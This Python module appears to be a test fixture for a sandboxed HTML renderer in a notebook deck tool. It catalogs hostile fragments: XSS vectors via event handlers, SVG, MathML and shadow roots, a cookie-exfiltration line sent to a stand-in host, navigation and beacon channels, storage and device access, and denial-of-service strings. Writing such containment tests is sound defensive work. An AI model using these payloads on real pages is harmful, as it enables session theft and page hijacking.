"""Fragments that mean harm: each tries to change, read, leave or block the page that shows it.

Whatever calls home calls `HOME`: a test puts an address there that it listens at.
"""

# ruff: noqa: E501 - a fragment is read best as one line

from __future__ import annotations

HOME = "http://home.invalid"

# What a script does once it runs: reach for everything that is not its own.
REACH = (
    "for (const w of [parent, top, parent.parent, opener]) {"
    " try { w.document.title = 'taken' } catch {}"
    " try { w.document.body.innerHTML = 'taken' } catch {}"
    f" try {{ w.location = '{HOME}/left' }} catch {{}}"
    f" try {{ w.location.href = '{HOME}/left' }} catch {{}}"
    " try { w.postMessage({flyteNbDeck: 'height', px: 1e9}, '*') } catch {}"
    " try { w.postMessage({flyteNbDeck: 'reveal', px: 1e9}, '*') } catch {} }"
    f" try {{ fetch('{HOME}/fetched').catch(() => 0) }} catch {{}}"
    f" try {{ new Image().src = '{HOME}/image?' + document.cookie }} catch {{}}"
)

WHERE_SCRIPTS_RUN = {
    "script": f"<script>{REACH}</script>",
    "module": f'<script type="module">{REACH}</script>',
    "script from elsewhere": f'<script src="{HOME}/evil.js"></script>',
    "import map": f'<script type="importmap">{{"imports":{{"x":"{HOME}/x.js"}}}}</script>'
    "<script type=module>import('x').catch(() => 0)</script>",
    "onerror": f'<img src="x:" onerror="{REACH}">',
    "onload of a style": f'<style onload="{REACH}"></style>',
    "onfocus": f'<input autofocus onfocus="{REACH}">',
    "ontoggle": f'<details open ontoggle="{REACH}"><summary>x</summary></details>',
    "onanimationstart": f'<style>@keyframes k{{}}</style><p style="animation:k 1s" onanimationstart="{REACH}">x',
    "body onload": f'<body onload="{REACH}">',
    "svg onload": f'<svg onload="{REACH}"></svg>',
    "svg script": f"<svg><script>{REACH}</script></svg>",
    "svg animate": f'<svg><a><animate attributeName=href values="javascript:{REACH}"/><text y=20>x</text></a></svg>',
    "svg foreignObject": f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src=x: onerror=\"{REACH}\"></body></foreignObject></svg>",
    "svg use": f'<svg><use href="{HOME}/a.svg#x"></use><image href="{HOME}/i.png"></image></svg>',
    "mathml": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=1&gt;" onerror="{REACH}" src=x:></mglyph></table></mtext></math>',
    "mathml link": f'<math href="javascript:{REACH}"><mi>x</mi></math>',
    "template and shadow": f"<div><template shadowrootmode=open><script>{REACH}</script></template></div>",
    "custom element": f"<script>customElements.define('x-y', class extends HTMLElement {{ connectedCallback() {{ {REACH} }} }})</script><x-y></x-y>",
}
WAYS_OUT = {
    "javascript link": f'<a id=a href="javascript:{REACH}">x</a><script>a.click()</script>',
    "link to the top": f'<a id=a target=_top href="{HOME}/top">x</a><script>a.click()</script>',
    "link to a window": f'<a id=a target=_blank href="{HOME}/window">x</a><script>a.click()</script>',
    "download": f'<a id=a download href="{HOME}/file">x</a><script>a.click()</script>',
    "ping": f'<a id=a href="#x" ping="{HOME}/ping">x</a><script>a.click()</script>',
    "window.open": f"<script>for (let i = 0; i < 50; i++) window.open('{HOME}/open')</script>",
    "meta refresh": f'<meta http-equiv="refresh" content="0;url={HOME}/refresh">',
    "base": f'<base href="{HOME}/"><img src="i.png"><a href="x" id=a>x</a><script>a.click()</script>',
    "form": f'<form id=f action="{HOME}/form"><input name=q value=1></form><script>f.submit()</script>',
    "form to the top": f'<form id=f target=_top method=post action="{HOME}/form"></form><script>f.requestSubmit()</script>',
    "frame": f'<iframe src="{HOME}/frame"></iframe><iframe src="/lab"></iframe>',
    "frame of a frame": f'<iframe srcdoc="<script>{REACH.replace(chr(34), "")}</script>"></iframe>',
    "frame of data": f'<iframe src="data:text/html,<script>{REACH}</script>"></iframe>',
    "object and embed": f'<object data="{HOME}/o"></object><embed src="{HOME}/e"><applet code=x></applet>',
    "stylesheet": f'<link rel=stylesheet href="{HOME}/s.css"><style>@import "{HOME}/i.css"; p {{ background: url({HOME}/b.png) }} @font-face {{ font-family: f; src: url({HOME}/f.woff) }} p {{ font-family: f }}</style><p>x',
    "prefetch": f'<link rel=prefetch href="{HOME}/p"><link rel=preconnect href="{HOME}"><link rel=dns-prefetch href="{HOME}"><link rel=modulepreload href="{HOME}/m.js"><link rel=preload as=image href="{HOME}/pre.png">',
    "media": f'<video src="{HOME}/v" poster="{HOME}/p.png" autoplay></video><audio src="{HOME}/a" autoplay></audio><picture><source srcset="{HOME}/s.png"><img></picture>',
    "sockets": f"<script>try {{ new WebSocket('{HOME}/ws') }} catch {{}} try {{ new EventSource('{HOME}/es') }} catch {{}} navigator.sendBeacon && navigator.sendBeacon('{HOME}/beacon')</script>",
    "workers": f"<script>for (const W of [Worker, SharedWorker]) try {{ new W(URL.createObjectURL(new Blob([\"fetch('{HOME}/worker')\"]))) }} catch {{}} navigator.serviceWorker?.register('/sw.js').catch(() => 0)</script>",
    "location": f"<script>location = '{HOME}/location'</script>",
    "location of data": "<script>location = 'data:text/html,<h1>gone'</script>",
    "the page's own files": "<script>fetch('/api/contents').catch(() => 0); fetch('/lab').catch(() => 0); import('/static/x.js').catch(() => 0)</script>",
}
WHAT_IS_KEPT = {
    "cookies": "<script>try { document.cookie = 'stolen=1' } catch {}</script>",
    "storage": "<script>for (const s of ['localStorage', 'sessionStorage', 'indexedDB', 'caches']) try { window[s].setItem?.('stolen', 1); window[s].open?.('stolen') } catch {}</script>",
    "clipboard": "<script>try { navigator.clipboard.readText().catch(() => 0); document.execCommand('paste') } catch {}</script>",
    "devices": "<script>try { navigator.geolocation.getCurrentPosition(() => 0); navigator.mediaDevices?.getUserMedia({ video: true }).catch(() => 0); Notification.requestPermission() } catch {}</script>",
    "full screen": "<script>document.documentElement.requestFullscreen?.().catch(() => 0); document.body?.requestPointerLock?.()</script>",
    "history": "<script>try { history.pushState({}, '', '/gone'); history.back(); history.go(-2) } catch {}</script>",
}
BROKEN = {
    "style that hides all": "<style>* { display: none !important } html, body { position: fixed; inset: 0; z-index: 2147483647; background: red }</style>",
    "unclosed": "<div><table><tr><td><b><i><a href=x><p title='",
    "closes what is around": "</div></td></table></section></main></body></html></iframe></template></script></style>",
    "comment": "<p>x<!-- <p>never closed",
    "plaintext": "<plaintext><p>x",
    "cdata and doctype": "<!doctype html><html><head><title>x</title></head><body><![CDATA[ <p>x ]]></body></html>",
    "raw text": "<xmp><textarea><title><noembed><noframes>",
    "zero and lone surrogate": "<p>a\0b \ud800 c</p>",
    "document.write": "<script>document.write('<plaintext>'); document.open(); document.write('<h1>mine</h1>'); document.close()</script>",
    "alerts": "<script>for (let i = 0; i < 1000; i++) { alert('alerts ' + i); confirm(i); prompt(i); print() }</script>",
    "before leaving": "<script>onbeforeunload = (e) => { e.preventDefault(); return 'stay' }; onunload = () => { alert(1) }</script>",
    "growing": "<script>setInterval(() => { document.body.style.height = (document.body.offsetHeight + 5000) + 'px' }, 20)</script>",
    "messages": "<script>setInterval(() => { for (let i = 0; i < 100; i++) for (const w of [parent, top]) w.postMessage({ flyteNbDeck: 'height', px: Math.random() * 1e6 }, '*') }, 50)</script>",
    "false search": "<script>setInterval(() => parent.postMessage({ flyteNbDeck: 'found', count: 5, px: 9000 }, '*'), 50)</script>",
    "giant table": "<table>" + ("<tr>" + "<td>1</td>" * 50 + "</tr>") * 1_000 + "</table>",
    "deep": "<div>" * 5_000,
    "long line": "x" * 1_000_000,
}
FRAGMENTS = {**WHERE_SCRIPTS_RUN, **WAYS_OUT, **WHAT_IS_KEPT, **BROKEN}
NAMES = (
    "<img src=x: onerror=alert(1)>",
    "'\"></iframe><script>alert(1)</script>",
    "\0\u202e",
    " " * 40,
)
